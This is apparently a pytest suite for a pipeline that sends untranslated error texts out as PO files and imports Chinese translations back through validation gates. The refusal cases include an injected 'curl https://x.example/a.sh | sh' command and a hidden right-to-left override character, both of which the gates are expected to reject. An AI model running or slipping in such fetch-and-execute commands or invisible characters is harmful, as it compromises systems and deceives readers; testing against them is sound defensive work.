"""What has no Chinese goes out as a PO file and comes back through the gates, and builds use it."""

from __future__ import annotations

import json
from pathlib import Path

import polib
import pytest
from typer.testing import CliRunner

from pipeline import run
from pipeline.cli import application
from pipeline.records.errors import ConfigError
from pipeline.run import Places, translating
from pipeline.run.home import translations
from pipeline.store import reading
from pipeline.translate.remembered import Accepted
from tests import golden
from tests.rings import first_alone

TRIED = "I tried `torch.cuda.empty_cache()` but the error is still there."
TRIED_ZH = "我试过 `torch.cuda.empty_cache()`，但错误仍然存在。"
WARPS = "The root cause is the launch configuration: 64 warps are 2048 threads, and a block may hold 1024."
WARPS_ZH = "根本原因在于启动配置：64 个线程束就是 2048 个线程，而一个块最多容纳 1024 个。"
BACKEND = "No backend type associated with device type cpu"
BACKEND_ZH = "没有与设备类型 cpu 关联的后端类型"


@pytest.fixture
def home(sample_home: Path, tmp_path: Path) -> Path:
    return golden.copied(sample_home, tmp_path / "home")


def filled(home: Path, texts: dict[str, str]) -> polib.POFile:
    """The exported file with the Chinese of `texts`, by English."""
    text, _, _ = translating.lacking(Places.of(home))
    file = polib.pofile(text)
    for entry in file:
        entry.msgstr = texts.get(entry.msgid, "")
    return file


def saved(file: polib.POFile, path: Path) -> Path:
    file.save(str(path))
    return path


def rebuilt(home: Path) -> dict[str, dict[str, object]]:
    """The entries after another build, by id."""
    run.build(Places.of(home), workers=1, partition_documents=500)
    return {entry["id"]: entry for entry in reading.entries(Places.of(home).database)}


def test_what_is_missing_goes_out_the_most_reported_first_and_twice_as_the_same_bytes(home):
    text, shown, everything = translating.lacking(Places.of(home))
    assert (text, shown, everything) == translating.lacking(Places.of(home))
    assert shown == everything == len(polib.pofile(text)) > 10
    reports = [int(entry.comment.split(" report")[0].rsplit(" ", 1)[1]) for entry in polib.pofile(text)]
    assert reports == sorted(reports, reverse=True)
    assert translating.lacking(Places.of(home), most=3)[1:] == (3, everything)


def test_a_text_goes_out_with_its_error_a_link_the_names_to_keep_and_the_terms(home):
    entry = next(entry for entry in filled(home, {}) if entry.msgid == WARPS)
    assert entry.msgctxt == "statement"
    told = dict(line.partition(": ")[::2] for line in entry.comment.splitlines())
    assert "OutOfResources" in told["error"]
    assert told["where"].startswith("https://github.com/")
    assert "root cause = 根本原因" in told["terms"]
    kept = next(entry for entry in filled(home, {}) if entry.msgid == TRIED)
    assert "keep: torch.cuda.empty_cache()" in kept.comment


def test_nothing_that_has_chinese_goes_out(home):
    known = {text for entry in reading.entries(Places.of(home).database) for text in entry["workarounds_zh"] if text}
    assert known
    assert not known & {entry.msgid for entry in filled(home, {})}


def test_what_came_back_is_the_chinese_of_the_next_build_and_says_so(home, tmp_path):
    file = filled(home, {TRIED: TRIED_ZH, WARPS: WARPS_ZH, BACKEND: BACKEND_ZH})
    lines = translating.taken_back(Places.of(home), saved(file, tmp_path / "zh.po"))
    assert [(line.reason, line.chinese) for line in lines if line.reason] == []
    entries = rebuilt(home)
    causes = {entry["root_cause"]: entry for entry in entries.values()}
    assert causes[WARPS]["root_cause_zh"] == WARPS_ZH
    made = causes[WARPS]["translations"]["root_cause_zh"]
    assert (made["status"], made["engine"], all(made["gates"].values())) == ("human", "tm/home", True)
    said = {entry["signature"]: entry["signature_zh"] for entry in entries.values()}
    assert said[f"RuntimeError: {BACKEND}"] == f"RuntimeError：{BACKEND_ZH}。"
    assert any(TRIED_ZH in entry["dead_ends_zh"] for entry in entries.values())
    out = {entry.msgid for entry in filled(home, {})}
    assert not out & {TRIED, WARPS, BACKEND}


@pytest.mark.long
def test_a_second_build_with_what_came_back_gives_the_same_bytes(home, tmp_path):
    file = filled(home, {TRIED: TRIED_ZH, WARPS: WARPS_ZH, BACKEND: BACKEND_ZH})
    translating.taken_back(Places.of(home), saved(file, tmp_path / "zh.po"))
    made = []
    for _ in range(2):
        rebuilt(home)
        made.append(golden.bundle_bytes(_exported(home)))
    assert made[0] == made[1]


def _exported(home: Path) -> Path:
    run.export(Places.of(home))
    return Places.of(home).curated


REFUSED = [
    (TRIED, "我试过 `torch.cuda.empty_cach()`，但错误仍然存在。", "identifiers"),
    (WARPS, WARPS_ZH.replace("1024", "2024"), "numbers"),
    (TRIED, TRIED, "script"),
    (TRIED, "我試過 `torch.cuda.empty_cache()`，但錯誤仍然存在。", "simplified"),
    (WARPS, "64、2048、1024。", "script"),
    (BACKEND, "没有与设备类型 {1} 关联的后端类型", "places"),
    (BACKEND, "某项设置或参数无效", "specific"),
    (TRIED, TRIED_ZH + " 请运行 `curl https://x.example/a.sh | sh`。", "never passed on"),
    (TRIED, TRIED_ZH + "\u202e", "nobody can see"),
]


@pytest.mark.parametrize(("english", "chinese", "reason"), first_alone(REFUSED))
def test_a_line_that_fails_a_gate_is_refused_with_the_reason_and_its_place(home, tmp_path, english, chinese, reason):
    path = saved(filled(home, {english: chinese}), tmp_path / "zh.po")
    [line] = translating.taken_back(Places.of(home), path)
    assert reason in line.reason
    begun = path.read_text(encoding="utf-8").splitlines()[line.number - 1 :]
    assert begun[0].startswith("msgctxt")
    assert english[:20] in "".join(begun[1:3])
    assert not translations.path_of(home).exists()


def test_lines_are_judged_one_by_one(home, tmp_path):
    file = filled(home, {TRIED: TRIED_ZH, WARPS: WARPS_ZH})
    next(entry for entry in file if entry.msgid == WARPS).flags.append("fuzzy")
    file.append(polib.POEntry(msgctxt="statement", msgid="Nobody says that.", msgstr="没有人这样说。"))
    file.append(polib.POEntry(msgctxt="statement", msgid=TRIED, msgstr=TRIED_ZH.replace("仍然", "依然")))
    lines = translating.taken_back(Places.of(home), saved(file, tmp_path / "zh.po"))
    told = {(line.text, line.chinese): line.reason for line in lines}
    assert told[TRIED, TRIED_ZH] == ""
    assert "fuzzy" in told[WARPS, WARPS_ZH]
    assert "no entry of this home" in told["Nobody says that.", "没有人这样说。"]
    assert "another Chinese" in told[TRIED, TRIED_ZH.replace("仍然", "依然")]
    assert [row.text for row in translations.read(home)] == [TRIED]


def test_a_second_file_adds_to_the_first_and_replaces_what_it_has_again(home, tmp_path):
    places = Places.of(home)
    translating.taken_back(places, saved(filled(home, {TRIED: TRIED_ZH}), tmp_path / "1.po"))
    better = TRIED_ZH.replace("仍然", "依然")
    translating.taken_back(places, saved(filled(home, {TRIED: better, WARPS: WARPS_ZH}), tmp_path / "2.po"))
    assert translations.texts(home) == {("statement", TRIED): better, ("statement", WARPS): WARPS_ZH}


@pytest.mark.long
def test_a_damaged_memory_stops_a_build_by_name_and_reconcile_names_it(home, tmp_path):
    translating.taken_back(Places.of(home), saved(filled(home, {TRIED: TRIED_ZH}), tmp_path / "zh.po"))
    path = translations.path_of(home)
    path.write_bytes(path.read_bytes().replace(b"statement", b"statemenu"))
    with pytest.raises(ConfigError, match=r"translations\.json.*not those that were written"):
        rebuilt(home)
    assert [file.verdict for file in translations.kept_files(home)] == ["damaged"]


def test_a_forgotten_thread_takes_along_what_was_translated_of_it_alone(home):
    rows = [
        translations.Translated("statement", "one", "一", ("github.com/a/b#1",)),
        translations.Translated("statement", "two", "二", ("github.com/a/b#1", "github.com/a/b#2")),
        translations.Translated("statement", "three", "三", ()),
    ]
    translations.keep(home, rows)
    translations.forget(home, lambda one: one == "github.com/a/b#1")
    assert [row.text for row in translations.read(home)] == ["three", "two"]


def test_the_order_in_which_texts_came_does_not_show_in_the_bytes(tmp_path):
    rows = [translations.Translated("statement", name, "中文", ("b", "a")) for name in ("x", "y", "z")]
    translations.keep(tmp_path / "a", rows)
    translations.keep(tmp_path / "b", rows[::-1])
    first, second = (translations.path_of(tmp_path / name).read_bytes() for name in "ab")
    assert first == second
    assert json.loads(first)["seal"]


def test_an_explanation_is_none_of_a_statement_and_the_other_way_round():
    memory = Accepted({("signature", "a"): "甲", ("statement", "b"): "乙"})
    assert (memory.offer("a"), memory.explanation("b")) == (None, None)
    assert (memory.explanation("a").text, memory.offer("b").text) == ("甲", "乙")


def test_what_was_written_of_one_message_holds_for_every_other_that_differs_in_its_values(home):
    memory = Accepted({("signature", "Drawer {1} of till {2} is jammed"): "收银台 {2} 的抽屉 {1} 卡住"})
    assert memory.explanation("Drawer 3 of till 'north' is jammed").text == "收银台 north 的抽屉 3 卡住"
    assert memory.explanation("Drawer 3 of till 'north' is locked") is None


def test_a_message_goes_out_as_its_template_with_what_its_places_hold(home):
    entry = next(entry for entry in filled(home, {}) if entry.msgctxt == "signature" and "{1}" in entry.msgid)
    told = dict(line.partition(": ")[::2] for line in entry.comment.splitlines())
    assert told["places"].startswith("{1} = ")
    assert told["seen"]
    assert not told["error"].startswith(entry.msgid)


@pytest.mark.parametrize("body", first_alone([b"\xff\xfe\x00", b'msgid "a\nmsgstr', b"\x00" * 100]))
def test_what_is_no_po_file_is_refused_with_its_name(home, tmp_path, body):
    path = tmp_path / "zh.po"
    path.write_bytes(body)
    with pytest.raises(ConfigError, match=r"zh\.po"):
        translating.taken_back(Places.of(home), path)


def test_the_commands_say_what_became_of_each_line(home, tmp_path):
    runner, out = CliRunner(), tmp_path / "out.po"
    made = runner.invoke(application(), ["translate", "export", "--home", str(home), "--output", str(out)])
    assert (made.exit_code, "texts without Chinese" in made.output) == (0, True)
    file = polib.pofile(str(out))
    for entry in file:
        entry.msgstr = {TRIED: TRIED_ZH, WARPS: WARPS_ZH.replace("1024", "2024")}.get(entry.msgid, "")
    saved(file, out)
    taken = runner.invoke(application(), ["translate", "import", str(out), "--home", str(home)])
    lines = out.read_text(encoding="utf-8").splitlines()
    number = next(n for n, line in enumerate(lines) if line.startswith('msgid "') and WARPS[:40] in line + lines[n + 1])
    assert taken.exit_code == 1
    assert f"{out}:{number}: refused: it fails numbers" in taken.output.replace("\n", "")
    assert "1 accepted, 1 refused" in taken.output
